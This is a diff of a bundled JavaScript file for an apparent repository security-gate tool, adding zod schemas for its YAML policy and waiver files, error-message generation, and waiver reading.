+    const { startLine: line, column } = second.root ?? { startLine: 1, column: 1 };
+    return [{ line, column, sentence: 'This is a second document; one file holds one.', hint: 'Remove the line `---`.' }];
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/problem.js
+
+/** More than a person reads; the rest is counted. */
+const mostProblems = 50;
+/** In the order of file names and lines; a flood is cut and counted. */
+function orderProblems(problems) {
+    const sorted = [...problems].sort((a, b) => compareAll(order_compareText(a.file ?? '', b.file ?? ''), a.line - b.line, a.column - b.column));
+    const last = sorted[mostProblems];
+    if (last === undefined)
+        return sorted;
+    const left = sorted.length - mostProblems;
+    return [
+        ...sorted.slice(0, mostProblems),
+        { ...placeOnly(last), sentence: `Problems from here on are only counted: ${left}.` },
+    ];
+}
+const placeOnly = ({ file, line, column }) => ({ ...(file === undefined ? {} : { file }), line, column });
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/once-per.js
+/** The same for the same key: a schema takes longer to build than most files to read. */
+function oncePer(make) {
+    const all = new WeakMap();
+    return (key) => {
+        const known = all.get(key);
+        if (known !== undefined)
+            return known.made;
+        const made = make(key);
+        all.set(key, { made });
+        return made;
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/quantity.js
+
+const millisecondsIn = {
+    s: 1000,
+    m: 60_000,
+    h: 3_600_000,
+    d: 86_400_000,
+    w: 604_800_000,
+};
+const daysIn = { d: 1, w: 7 };
+const bytesIn = { m: 2 ** 20, g: 2 ** 30 };
+const scaled = (text, units) => Number(text.slice(0, -1)) * (units[text.slice(-1)] ?? Number.NaN);
+/** `90s`, `10m`, `2h`, at most about a day; decoded to milliseconds. */
+const durationSchema = schemas_string()
+    .regex(/^(?:[1-9]\d{0,4}s|[1-9]\d{0,2}m|(?:[1-9]|1\d|2[0-4])h)$/u, 'be a number and a unit, such as 90s, 10m or 2h, and at most 24h')
+    .transform((text) => scaled(text, millisecondsIn));
+/** `48h`, `7d`, `2w`, at most about a year; decoded to milliseconds. */
+const maxAgeSchema = schemas_string()
+    .regex(/^(?:[1-9]\d{0,3}h|[1-9]\d{0,2}d|[1-9]\d?w)$/u, 'be a number and a unit, such as 48h, 7d or 2w, and at least 1h')
+    .transform((text) => scaled(text, millisecondsIn));
+/** `7d`, `2w`, also `0d`; decoded to days. */
+const daysSchema = schemas_string()
+    .regex(/^(?:0|[1-9]\d{0,3})[dw]$/u, 'be a number of days or weeks, such as 7d or 2w')
+    .transform((text) => scaled(text, daysIn));
+/** `512m`, `4g` (binary units), from 100m to 999g; decoded to bytes. */
+const memorySchema = schemas_string()
+    .regex(/^(?:[1-9]\d{2,5}m|[1-9]\d{0,2}g)$/u, 'be a number and a unit, such as 512m or 4g, and at least 100m')
+    .transform((text) => scaled(text, bytesIn));
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/iso.js
+
+
+
+function iso_datetime(params) {
+    return _isoDateTime(ZodISODateTime, params);
+}
+function iso_date(params) {
+    return _isoDate(ZodISODate, params);
+}
+function iso_time(params) {
+    return core._isoTime(ZodISOTime, params);
+}
+function iso_duration(params) {
+    return core._isoDuration(ZodISODuration, params);
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/text.js
+
+/** Lists and maps of people are short; longer ones are attacks on time and memory. */
+const mostItems = 500;
+/** zod hands only text from a schema to its issue, so the text is the list of the keys that would have been right. */
+const knownKeys = (keys) => (issue) => issue.code === 'unrecognized_keys' ? keys.join(' ') : undefined;
+/** An object without other keys. */
+const text_closed = (shape) => strictObject(shape, { error: knownKeys(Object.keys(shape)) });
+/** Text for people: no control characters but line breaks and tabs, and not only white space. */
+const prose = schemas_string()
+    .regex(/^(?=[\s\S]*\S)[^\u0000-\u0008\u000b-\u001f\u007f]{1,2000}$/u, 'be a text of 1 to 2000 characters');
+const text_line = schemas_string().regex(/^(?=.*\S)[^\p{Cc}]{1,200}$/u, 'be one line of 1 to 200 characters');
+const entryId = schemas_string()
+    .regex(/^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/u, 'be 1 to 64 letters, digits, `.`, `_` or `-`, and start with a letter or digit');
+const text_url = schemas_string()
+    .regex(/^https?:\/\/[^\s\p{Cc}]{1,500}$/u, 'be an address that starts with https:// or http://');
+const text_day = iso_date('be a day of the calendar, written as 2027-03-31');
+/** Zod's checks wait for a sound value; these look at keys alone, so they need not. */
+const always = { when: () => true };
+const hasAny = (value, keys) => typeof value !== 'object' || value === null || keys.some((key) => Object.hasOwn(value, key));
+/** In words of JSON Schema: one of these keys is there. */
+const requiredAny = (keys) => ({ anyOf: keys.map((key) => ({ required: [key] })) });
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/match-schema.js
+
+
+
+
+
+
+/** A waiver for `**` names no place. */
+const narrow = schemas_string().regex(/[^*?/.{},]/u, 'name something: wildcards alone fit everything');
+const valuesSchema = (entry, names, forWaiver) => {
+    const one = comparisonOf(entry.compares).schema(names);
+    const item = forWaiver && entry.narrows === 'where' ? one.and(narrow) : one;
+    return union([item, array(item).min(1).max(mostItems)])
+        .transform((value) => [value].flat())
+        .meta({ id: entry.key, description: entry.docs });
+};
+const keysShape = (entries, names, forWaiver = false) => Object.fromEntries(entries.map((entry) => [entry.key, valuesSchema(entry, names, forWaiver).exactOptional()]));
+const ruleKeyNames = [...ruleMatchKeys.map(({ key }) => key), 'any'];
+/** The keys of a rule's match, with `any`. What is in `any` has no `any` of its own: nobody could read it. */
+const ruleKeysShape = (names) => {
+    const keys = keysShape(ruleMatchKeys, names);
+    const branch = text_closed(keys)
+        .refine((match) => Object.keys(match).length > 0, 'say what it matches')
+        .meta({ minProperties: 1 });
+    const any = array(branch).min(1).max(mostItems);
+    return { ...keys, any: any.describe('One of these has to fit, beside the other keys.').exactOptional() };
+};
+const ruleMatch = (shape) => text_closed(shape)
+    .refine((match) => Object.keys(match).length > 0, 'say what it matches')
+    .meta({ minProperties: 1 });
+/** For a map that holds other keys beside those of a match. */
+const matchesSomething = (value) => hasAny(value, ruleKeyNames);
+const requiresMatch = requiredAny(ruleKeyNames);
+const keysThatName = (narrows) => allMatchKeys.filter((entry) => entry.narrows === narrows).map((entry) => entry.key);
+const waiverMatch = oncePer((names) => {
+    const [what, where] = [keysThatName('what'), keysThatName('where')];
+    return text_closed(keysShape(allMatchKeys, names, true))
+        .refine((match) => hasAny(match, what), { ...always, error: `say what is waived: ${alternatives(what)}` })
+        .refine((match) => hasAny(match, where), { ...always, error: `say where: ${alternatives(where)}` })
+        .meta({ allOf: [requiredAny(what), requiredAny(where)] });
+});
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/rule-schema.js
+
+
+
+
+
+
+const rule_schema_limits = Object.fromEntries(severities.map((severity) => [severity, daysSchema.describe('Within these days: 7d, 2w.').exactOptional()]));
+const slaSchema = text_closed({
+    from: literal('published').describe('Counted from the day its advisory was published.'),
+    ...rule_schema_limits,
+})
+    .refine((sla) => hasAny(sla, severities), { ...always, error: 'give a limit, such as `critical: 7d`' })
+    .transform(({ from, ...days }) => ({ from, days }))
+    .meta(requiredAny(severities))
+    .describe('It blocks what is not mended within these days, and warns before.');
+const ruleSchema = (keys) => text_closed({
+    id: entryId.describe('Reports name the rule by it.'),
+    match: ruleMatch(keys).describe('Every key has to fit, and of a list one value.'),
+    action: schemas_enum(ruleActions).describe('What becomes of a finding that matches.'),
+    effective: text_day.describe('It warns until this day (UTC) and blocks from it on.').exactOptional(),
+    sla: slaSchema.exactOptional(),
+    why: prose.describe('The reason, printed with every finding the rule decides.').exactOptional(),
+    how: text_closed({
+        text: prose.describe('In a sentence or two.'),
+        url: text_url.describe('Where there is more.').exactOptional(),
+    })
+        .describe('How to put it right.')
+        .exactOptional(),
+});
+const overrideSchema = (keys) => text_closed({
+    ...keys,
+    is: schemas_enum(severities).describe('The severity that it has here.'),
+    why: prose.describe('The reason.').exactOptional(),
+})
+    .refine(matchesSomething, { ...always, error: 'say what it matches, as `rule: CKV_AWS_18`' })
+    .transform(({ is, why, ...match }) => ({ match, is, ...(why === undefined ? {} : { why }) }))
+    .meta(requiresMatch);
+/** Both read the same match keys. */
+const ruleSchemas = (names) => {
+    const keys = ruleKeysShape(names);
+    return { rule: ruleSchema(keys), override: overrideSchema(keys) };
+};
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/settings-schema.js
+
+
+
+
+
+const maxAge = text_closed(Object.fromEntries(dataNames.map((name) => [name, maxAgeSchema.describe('48h, 7d, 2w.').exactOptional()])));
+const settingsSchema = text_closed({
+    judge: schemas_enum(judgeScopes).describe('What counts in a change: what it introduces, or everything.').exactOptional(),
+    'on-tool-error': schemas_enum(toolErrorActions)
+        .describe('The verdict when a planned tool did not complete.')
+        .exactOptional(),
+    'on-unscanned': schemas_enum(unscannedActions).describe('What a file that no tool looked at means.').exactOptional(),
+    'on-stale-data': schemas_enum(staleDataActions).describe('The verdict when data is older than `max-age`.').exactOptional(),
+    'max-age': maxAge.describe('How old data may be, by its name.').exactOptional(),
+    'unknown-severity': schemas_enum(severities).describe('For findings without a vendor severity.').exactOptional(),
+    'inline-skips': schemas_enum(inlineSkipActions)
+        .describe('What a comment in a file may lift: warnings and notes, blocks too, or nothing.')
+        .exactOptional(),
+});
+const maxDays = schemas_int('be a whole number of days, at least 1').min(1).max(3650);
+/** What a waiver has to look like. */
+const waiverRulesSchema = text_closed({
+    require: array(schemas_enum(waiverFields))
+        .max(waiverFields.length)
+        .describe('What a waiver has to say beside `id` and `match`.')
+        .exactOptional(),
+    'max-days': text_closed(Object.fromEntries(severities.map((severity) => [severity, maxDays.describe('Days.').exactOptional()])))
+        .describe('How many days ahead it may expire, by the severity of what it lifts.')
+        .exactOptional(),
+    'warn-before': daysSchema.describe('How long before its end it is told.').exactOptional(),
+    grace: daysSchema.describe('How long after its end it still counts.').exactOptional(),
+});
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/policy-schema.js
+
+
+
+
+
+
+
+
+
+const policy_schema_toolSchema = union([
+    literal('off')
+        .or(literal(false))
+        .transform(() => ({ off: true })),
+    text_closed({
+        timeout: durationSchema.describe('After so long it is stopped: 90s, 10m, 2h.').exactOptional(),
+        memory: memorySchema.describe('At most so much memory: 512m, 4g.').exactOptional(),
+    }).transform((tool) => ({
+        off: false,
+        ...(tool.timeout === undefined ? {} : { timeoutMs: tool.timeout }),
+        ...(tool.memory === undefined ? {} : { memoryBytes: tool.memory }),
+    })),
+]);
+const toolsSchema = (names) => text_closed(Object.fromEntries(names.tools.map((tool) => [tool, policy_schema_toolSchema.describe('`off`, or its limits.').exactOptional()])));
+const checkFolder = schemas_string()
+    .regex(/^\.gatehouse\/(?!waivers(?:\/|$))(?!(?:[^/]+\/)*\.{1,2}(?:\/|$))[^\p{Cc}\\/]+(?:\/[^\p{Cc}\\/]+)*$/u, 'be a folder below `.gatehouse/`, such as `.gatehouse/checks/trivy`');
+const checksSchema = ({ checkTools = [] }) => text_closed(Object.fromEntries(checkTools.map((tool) => [tool, checkFolder.describe('A folder below `.gatehouse/`.').exactOptional()])));
+const propertyName = schemas_string().regex(/^[A-Za-z0-9_#$-]{1,75}$/u, 'be the name of a custom property');
+const modeSchema = union([
+    schemas_enum(modes),
+    text_closed({
+        property: propertyName.describe('A custom property of the repository, set by the organisation.'),
+        default: schemas_enum(modes).describe('Where the property names no mode.').default('audit'),
+    }),
+]);
+/** `.gatehouse/policy.yml` as it is written; decoded values, the file's own key names. */
+const policySchema = oncePer((names) => {
+    const { rule, override } = ruleSchemas(names);
+    return text_closed({
+        version: literal(1).describe('The version of this language.'),
+        mode: modeSchema.describe('Tell only, or fail the step.').exactOptional(),
+        block: array(schemas_enum(floorNames)).max(mostItems).describe('What blocks when no rule decides.').exactOptional(),
+        exclude: array(pathGlob).max(mostItems).describe('Files that are not looked at.').exactOptional(),
+        tools: toolsSchema(names).describe('Switches and limits of the tools.').exactOptional(),
+        checks: checksSchema(names).describe("Folders with the repository's own checks, per tool.").exactOptional(),
+        contact: text_line.describe('Whom to ask; printed with errors and exceptions.').exactOptional(),
+        settings: settingsSchema.describe('How the gate behaves.').exactOptional(),
+        severity: array(override)
+            .max(mostItems)
+            .describe('Other severities than the tools give; the first that matches stands.')
+            .exactOptional(),
+        rules: array(rule).max(mostItems).describe('The first that matches decides.').exactOptional(),
+        'waiver-rules': waiverRulesSchema.describe('What a waiver has to look like to count.').exactOptional(),
+        'repositories-may': array(schemas_enum(repositoryRights))
+            .max(repositoryRights.length)
+            .describe("For an organisation's policy: what a repository's own may do beside it.")
+            .exactOptional(),
+    });
+});
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/fault.js
+/** Each fault once: both halves of an intersection may find it. What has the wrong type is not told what else it must be. */
+function faultsOf(issues, base) {
+    const seen = new Set();
+    const faults = issues.flatMap((issue) => toFaults(issue, base));
+    const mistyped = new Set(faults.filter(({ type }) => type === 'unexpected').map(({ path }) => JSON.stringify(path)));
+    return faults
+        .filter((fault) => fault.type !== 'unmet' || !mistyped.has(JSON.stringify(fault.path)))
+        .filter((fault) => {
+        const key = JSON.stringify(fault);
+        return !seen.has(key) && seen.add(key);
+    });
+}
+function toFaults(issue, base) {
+    const path = [...base, ...issue.path];
+    switch (issue.code) {
+        case 'unrecognized_keys': {
+            const known = issue.message.split(' ');
+            return issue.keys.map((key) => ({ type: 'unknown-key', path: [...path, key], known }));
+        }
+        case 'invalid_type':
+            return [{ type: 'unexpected', path, values: [], types: [issue.expected] }];
+        case 'invalid_value':
+            return [{ type: 'unexpected', path, values: issue.values.map(String), types: [] }];
+        case 'invalid_union':
+            return bestBranch(issue.errors.map((branch) => branch.flatMap((inner) => toFaults(inner, path))), path);
+        case 'too_small':
+            return [{ type: 'unmet', path, demand: tooLittle(issue) }];
+        case 'too_big':
+            return [{ type: 'unmet', path, demand: tooMuch(issue) }];
+        default:
+            return [{ type: 'unmet', path, demand: issue.message }];
+    }
+}
+const tooLittle = ({ origin, minimum }) => origin === 'array' ? 'hold at least one entry' : `be at least ${minimum}`;
+const tooMuch = ({ origin, maximum }) => origin === 'array' ? `hold at most ${maximum} entries` : `be at most ${maximum}`;
+/** The branch that was meant is the one whose type fits; where none fits, what all of them would have taken. */
+function bestBranch(branches, path) {
+    const isElse = (fault) => fault.type === 'unexpected' && fault.path.length === path.length;
+    const meant = branches.find((branch) => !branch.some(isElse));
+    if (meant !== undefined)
+        return meant;
+    const missed = branches.flat().filter((fault) => fault.type === 'unexpected');
+    const values = missed.flatMap((fault) => fault.values);
+    return [{ type: 'unexpected', path, values, types: missed.flatMap((fault) => fault.types) }];
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/sentence.js
+
+
+
+/** Zod's issues as sentences with places. `whole` is what the document is called: `the policy`. */
+function describeIssues(issues, document, whole, base = []) {
+    const nameOf = (path) => nameWithin(path, whole);
+    return faultsOf(issues, base).map((fault) => {
+        const value = sentence_valueAt(document.value, fault.path);
+        const isMissing = fault.type === 'unexpected' && value === undefined;
+        return {
+            ...document.placeOf(isMissing ? fault.path.slice(0, -1) : fault.path),
+            ...(isMissing ? missing(fault, nameOf) : sentence_describe(fault, value, nameOf)),
+        };
+    });
+}
+function sentence_describe(fault, value, nameOf) {
+    const { path } = fault;
+    switch (fault.type) {
+        case 'unknown-key': {
+            const key = String(path.at(-1));
+            const near = didYouMean(key, fault.known);
+            return {
+                sentence: `${code(key)} is not a key of ${nameOf(path.slice(0, -1))}.`,
+                hint: near === undefined ? `Its keys are ${fault.known.join(', ')}.` : `Did you mean ${code(near)}?`,
+            };
+        }
+        case 'unexpected':
+            return {
+                sentence: `${capital(nameOf(path))} must be ${allowed(fault)}, not ${show(value)}.`,
+                ...hintFor(value, fault),
+            };
+        case 'unmet': {
+            const instead = typeof value === 'string' ? `, not ${show(value)}` : '';
+            return { sentence: `${capital(nameOf(path))} must ${fault.demand}${instead}.` };
+        }
+    }
+}
+const missing = (fault, nameOf) => ({
+    sentence: `${code(String(fault.path.at(-1)))} is missing in ${nameOf(fault.path.slice(0, -1))}.`,
+    hint: `It must be ${allowed(fault)}.`,
+});
+function hintFor(value, { values, types }) {
+    if (typeof value === 'string') {
+        if (values.includes(value) || (types.includes('boolean') && /^(?:true|false)$/.test(value)))
+            return { hint: 'Write it without quotes.' };
+        const near = didYouMean(value, values);
+        return near === undefined ? {} : { hint: `Did you mean ${code(near)}?` };
+    }
+    const isScalar = typeof value === 'number' || typeof value === 'boolean';
+    return isScalar && types.includes('string') ? { hint: 'Put it in quotes.' } : {};
+}
+const sentence_typeNames = {
+    string: ['a text'],
+    boolean: ['true', 'false'],
+    int: ['a whole number'],
+    number: ['a number'],
+    array: ['a list'],
+    object: ['a map of keys and values'],
+};
+/** More than these are not read; the nearest one is in the hint. Of very many, not even the first help. */
+const mostValues = 8;
+const veryMany = 40;
+function allowed({ values, types }) {
+    const shown = values.length > veryMany ? [] : values.slice(0, mostValues);
+    const left = values.length - shown.length;
+    const more = left > 0 ? [`one of ${left} ${shown.length === 0 ? 'names' : 'more'}`] : [];
+    const rest = types
+        .filter((type) => type !== 'array' || values.length === 0)
+        .flatMap((type) => sentence_typeNames[type] ?? type);
+    return alternatives([...new Set([...shown, ...more, ...rest])]);
+}
+function nameWithin(path, whole) {
+    const last = path.at(-1);
+    if (typeof last === 'string')
+        return code(last);
+    const list = path.findLast((step) => typeof step === 'string');
+    return list === undefined ? whole : `an entry of ${code(list)}`;
+}
+function sentence_valueAt(value, path) {
+    return path.reduce((inner, step) => typeof inner === 'object' && inner !== null && Object.hasOwn(inner, step) ? Reflect.get(inner, step) : undefined, value);
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/to-policy.js
+
+/** What a file says, with the default for everything that it leaves out. */
+const toPolicy = (file) => ({
+    version: 1,
+    mode: file.mode ?? defaultPolicy.mode,
+    block: file.block ?? defaultPolicy.block,
+    exclude: file.exclude ?? defaultPolicy.exclude,
+    tools: new Map(Object.entries(file.tools ?? {})),
+    checks: new Map(Object.entries(file.checks ?? {})),
+    ...(file.contact === undefined ? {} : { contact: file.contact }),
+    settings: toSettings(file.settings ?? {}),
+    severity: file.severity ?? defaultPolicy.severity,
+    rules: file.rules ?? defaultPolicy.rules,
+    waiverRules: toWaiverRules(file['waiver-rules'] ?? {}),
+    ...(file['repositories-may'] === undefined ? {} : { repositoriesMay: file['repositories-may'] }),
+});
+function toSettings(settings) {
+    const otherwise = defaultPolicy.settings;
+    return {
+        onToolError: settings['on-tool-error'] ?? otherwise.onToolError,
+        onUnscanned: settings['on-unscanned'] ?? otherwise.onUnscanned,
+        unknownSeverity: settings['unknown-severity'] ?? otherwise.unknownSeverity,
+        inlineSkips: settings['inline-skips'] ?? otherwise.inlineSkips,
+        judge: settings.judge ?? otherwise.judge,
+        onStaleData: settings['on-stale-data'] ?? otherwise.onStaleData,
+        maxAgeMs: settings['max-age'] === undefined ? otherwise.maxAgeMs : new Map(Object.entries(settings['max-age'])),
+    };
+}
+function toWaiverRules(rules) {
+    const otherwise = defaultPolicy.waiverRules;
+    return {
+        require: rules.require ?? otherwise.require,
+        maxDays: rules['max-days'] ?? otherwise.maxDays,
+        warnBeforeDays: rules['warn-before'] ?? otherwise.warnBeforeDays,
+        graceDays: rules.grace ?? otherwise.graceDays,
+    };
+}
+
 ;// CONCATENATED MODULE: ./build/js/core/policy/reading/read-policy.js
+
 
 
 
@@ -62720,36 +61920,14 @@ async function listIn(root, path, files) {
 function readPolicy(text, names) {
     const { document, problems } = readPlaced(text);
     if (document === undefined)
-        return { problems: orderProblems(problems) };
+        return { problems: orderProblems(problems), warnings: [] };
     const decoded = policySchema(names).safeParse(document.value);
     const issues = describeIssues(decoded.error?.issues ?? [], document, 'the policy');
     const found = [...problems, ...issues, ...findDuplicates(ruleIds(document))];
     if (!decoded.success || found.length > 0)
-        return { problems: orderProblems(found) };
-    return { policy: toPolicy(decoded.data), problems: [] };
-}
-function toPolicy(file) {
-    return {
-        version: 1,
-        mode: file.mode ?? defaultPolicy.mode,
-        block: file.block ?? defaultPolicy.block,
-        exclude: file.exclude ?? defaultPolicy.exclude,
-        tools: toTools(file.tools ?? {}),
-        checks: new Map(Object.entries(file.checks ?? {})),
-        ...(file.contact === undefined ? {} : { contact: file.contact }),
-        settings: toSettings(file.settings ?? {}),
-        rules: file.rules ?? defaultPolicy.rules,
-    };
-}
-const toTools = (tools) => new Map(Object.entries(tools));
-function toSettings(settings) {
-    const otherwise = defaultPolicy.settings;
-    return {
-        onToolError: settings['on-tool-error'] ?? otherwise.onToolError,
-        onUnscanned: settings['on-unscanned'] ?? otherwise.onUnscanned,
-        unknownSeverity: settings['unknown-severity'] ?? otherwise.unknownSeverity,
-        inlineSkips: settings['inline-skips'] ?? otherwise.inlineSkips,
-    };
+        return { problems: orderProblems(found), warnings: [] };
+    const policy = toPolicy(decoded.data);
+    return { policy, problems: [], warnings: orderProblems(lintPolicy(policy, document, names)) };
 }
 /** Read from the document itself, so that they are compared even when something else in it is wrong. */
 function ruleIds(document) {
@@ -62760,21 +61938,79 @@ function ruleIds(document) {
     });
 }
 
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/waiver-schema.js
+
+
+const reason = prose.describe('Why this is acceptable.');
+const owner = text_line.describe('Who answers for it.');
+const expires = text_day.describe('The last day on which it holds, UTC.');
+/** One waiver as it is written; what the rules do not require may be left out. */
+const waiverSchema = (names, { require }) => text_closed({
+    id: entryId.describe('Reports name the waiver by it.'),
+    match: waiverMatch(names).describe('Which finding, and where.'),
+    reason: require.includes('reason') ? reason : reason.exactOptional(),
+    owner: require.includes('owner') ? owner : owner.exactOptional(),
+    expires: require.includes('expires') ? expires : expires.exactOptional(),
+});
+
+;// CONCATENATED MODULE: ./build/js/core/policy/waiver.js
+
+
+
+
+
+
+
+
+/**
+ * Reads `.gatehouse/waivers/*.yml` (one waiver or a list in each) or `waivers.yml`. Keys of `files` are their names. `rules` are those
+ * of the policy beside them: what it does not require may be left out. Never throws.
+ */
+function readWaivers(files, names, rules = defaultPolicy.waiverRules) {
+    const schema = waiverSchema(names, rules);
+    const readings = [...files]
+        .sort(([a], [b]) => order_compareText(a, b))
+        .map(([file, text]) => waiver_readFile(file, text, names, schema));
+    const sound = readings.flatMap((reading) => reading.sound);
+    const firstOfId = new Map(sound.toReversed().map(({ waiver }) => [waiver.id, waiver]));
+    const duplicates = findDuplicates(sound.map(({ waiver, place }) => ({ id: waiver.id, file: waiver.file, ...place })));
+    return {
+        waivers: sound.map(({ waiver }) => waiver).filter((waiver) => firstOfId.get(waiver.id) === waiver),
+        problems: orderProblems([...readings.flatMap((reading) => reading.problems), ...duplicates]),
+        warnings: orderProblems(readings.flatMap((reading) => reading.warnings)),
+    };
+}
+function waiver_readFile(file, text, names, schema) {
+    const { document, problems } = readPlaced(text);
+    const inFile = (all) => all.map((problem) => ({ file, ...problem }));
+    if (document === undefined || problems.length > 0)
+        return { sound: [], problems: inFile(problems), warnings: [] };
+    const decoded = waiver_entriesOf(document).map(({ value, path }) => ({ path, result: schema.safeParse(value) }));
+    return {
+        sound: decoded.flatMap(({ path, result }) => result.success ? [{ waiver: { ...result.data, file }, place: document.placeOf([...path, 'id']) }] : []),
+        warnings: decoded.flatMap(({ path, result }) => result.success ? inFile(placeDubious(lintMatch(result.data.match, [...path, 'match'], names), document)) : []),
+        problems: decoded.flatMap(({ path, result }) => inFile(describeIssues(result.error?.issues ?? [], document, 'the waiver', path))),
+    };
+}
+const waiver_entriesOf = ({ value }) => Array.isArray(value) ? value.map((entry, index) => ({ value: entry, path: [index] })) : [{ value, path: [] }];
+
 ;// CONCATENATED MODULE: ./build/js/flow/policy/decode-policy.js
 
 
 
 
 
+
 /** The first that is there is the policy. */
-const policyPaths = [`${policy_folder_policyFolder}/policy.yml`, `${policy_folder_policyFolder}/policy.yaml`];
+const policyPaths = [`${policyFolder}/policy.yml`, `${policyFolder}/policy.yaml`];
 const isWaiverFile = (path) => /^\.gatehouse\/(?:waivers\/[^/]+\.ya?ml|waivers\.ya?ml)$/.test(path);
 /** A policy that cannot be read is replaced by the default and named, so that its repair can be merged. */
-function decode_policy_decodePolicy(contents, { where, named, names, ...reading }) {
+function decodePolicy(contents, { where, named, names, ...reading }) {
     const { instead = 'The default policy is used instead.' } = reading;
     const path = (named === undefined ? policyPaths : [named]).find((name) => contents.has(name));
     const text = path === undefined ? undefined : contents.get(path);
-    const { waivers, problems: waiverProblems } = decode_policy_decodeWaivers(contents, names);
+    const read = text === undefined ? undefined : readPolicy(text, names);
+    const { waivers, problems: waiverProblems } = decodeWaivers(contents, names, read?.policy);
     const byDefault = (origin) => ({
         policy: defaultPolicy,
         waivers,
@@ -62785,11 +62021,11 @@ function decode_policy_decodePolicy(contents, { where, named, names, ...reading 
             source: `no policy file in ${where}`,
             problems: named === undefined ? [] : [decode_policy_missing(named, where, instead)],
         });
-    if (text === undefined) {
+    if (text === undefined || read === undefined) {
         const problem = cannotBeOpened('POLICY_INVALID', path, instead);
         return byDefault({ source: `${path} of ${where}`, problems: [problem] });
     }
-    const { policy, problems } = readPolicy(text, names);
+    const { policy, problems } = read;
     const origin = { source: `${path} of ${where}`, digest: decode_policy_digestOf(text) };
     if (policy !== undefined)
         return { policy, waivers, origin: { layer: 'repository', ...origin, problems: waiverProblems } };
@@ -62800,11 +62036,12 @@ function decode_policy_decodePolicy(contents, { where, named, names, ...reading 
     }));
     return byDefault({ ...origin, problems: replaced });
 }
-function decode_policy_decodeWaivers(contents, names) {
+/** What the policy beside them does not require, they may leave out. */
+function decodeWaivers(contents, names, { waiverRules } = defaultPolicy) {
     const all = [...contents].filter(([path]) => isWaiverFile(path));
     const texts = all.flatMap(([path, text]) => (text === undefined ? [] : [[path, text]]));
     const closed = all.filter(([, text]) => text === undefined);
-    const { waivers, problems } = readWaivers(new Map(texts), names);
+    const { waivers, problems } = readWaivers(new Map(texts), names, waiverRules);
     const unopened = closed.map(([path]) => cannotBeOpened('WAIVER_INVALID', path, 'No waiver in it counts.'));
     return { waivers, problems: [...problems.map(waiverProblem), ...unopened] };
 }
@@ -62827,6 +62064,14 @@ const waiverProblem = (problem) => ({
     ...decode_policy_hintOf(problem),
 });
 const decode_policy_digestOf = (text) => `sha256:${sha256Hex(text)}`;
+/** @throws GatehouseError POLICY_INVALID, with the place of every mistake. */
+function decode_policy_demandPolicy(text, name, names, hint) {
+    const { policy, problems } = readPolicy(text, names);
+    if (policy !== undefined)
+        return policy;
+    const sentences = problems.map((problem) => [placedSentence(name, problem), problem.hint ?? ''].join(' ').trim());
+    throw new errors/* GatehouseError */.GA('POLICY_INVALID', sentences.join('\n'), { hint });
+}
 
 ;// CONCATENATED MODULE: ./build/js/flow/policy/remote-folder.js
 /** Asks for each tree once. */
@@ -62854,7 +62099,7 @@ async function findFolder(tree, from, steps, requests) {
     const last = follow(answer.value, seen);
     if (last === undefined)
         return answer.value.truncated ? { ok: false, failure: cutTree } : { ok: true, value: { state: 'missing' } };
-    if (isClosed(last))
+    if (remote_folder_isClosed(last))
         return { ok: true, value: { state: 'closed' } };
     if (last.type !== 'tree')
         return { ok: true, value: { state: 'missing' } };
@@ -62876,7 +62121,7 @@ const remote_folder_below = ({ entries }, folder) => entries
     .filter(({ path }) => path.startsWith(`${folder}/`))
     .map((entry) => ({ ...entry, path: entry.path.slice(folder.length + 1) }));
 /** What is no plain file and no folder: it would lead elsewhere. */
-const isClosed = ({ type, mode }) => type === 'commit' || mode === '120000';
+const remote_folder_isClosed = ({ type, mode }) => type === 'commit' || mode === '120000';
 /** Everything below a folder. */
 async function entriesBelow(tree, folder) {
     if (folder.state !== 'folder')
@@ -62898,20 +62143,20 @@ const cutTree = { kind: 'too-large', message: 'the folder holds too many files f
 /** Far more than people write; the rest is named. */
 const remote_files_mostFiles = 50;
 /** The reader of policies takes 262,144 characters, which are at most so many bytes. */
-const mostBytes = 1_048_576;
+const remote_files_mostBytes = 1_048_576;
 /** Trees that are asked for before the first file, one of them for the files themselves. */
 const mostTrees = 3;
 /** Lists the policy and waiver files of a commit; none is fetched yet. */
 async function remote_files_list(tree, commit, { prefix, named }) {
-    const folder = await findFolder(tree, commit, [...partsOf(prefix), policy_folder_policyFolder], mostTrees);
+    const folder = await findFolder(tree, commit, [...partsOf(prefix), policyFolder], mostTrees);
     if (!folder.ok)
         return folder;
     const below = await entriesBelow(tree, folder.value);
     if (!below.ok)
         return below;
-    const closed = folder.value.state === 'closed' ? [remote_files_link(`${policy_folder_policyFolder}/policy.yml`)] : [];
-    const usual = [...closed, ...below.value.map((entry) => ({ ...entry, path: `${policy_folder_policyFolder}/${entry.path}` }))]
-        .map((entry) => (entry.path === `${policy_folder_policyFolder}/waivers` && isClosed(entry) ? remote_files_link(`${entry.path}/*.yml`) : entry))
+    const closed = folder.value.state === 'closed' ? [remote_files_link(`${policyFolder}/policy.yml`)] : [];
+    const usual = [...closed, ...below.value.map((entry) => ({ ...entry, path: `${policyFolder}/${entry.path}` }))]
+        .map((entry) => (entry.path === `${policyFolder}/waivers` && remote_folder_isClosed(entry) ? remote_files_link(`${entry.path}/*.yml`) : entry))
         .filter(({ path, type }) => type !== 'tree' && (isWaiverFile(path) || (named === undefined && policyPaths.includes(path))));
     if (named === undefined)
         return { ok: true, value: usual };
@@ -62948,19 +62193,24 @@ async function readRemoteFiles({ tree, blob }, commit, place, known = new Map())
         return listed;
     const sorted = [...listed.value].sort((a, b) => rank(a) - rank(b) || order_compareText(a.path, b.path));
     const wanted = sorted.slice(0, remote_files_mostFiles);
-    const answers = await Promise.all(wanted.map(async (entry) => [entry, await remote_files_textOf(entry, known, blob)]));
+    const files = await fetchTexts(wanted, known, blob);
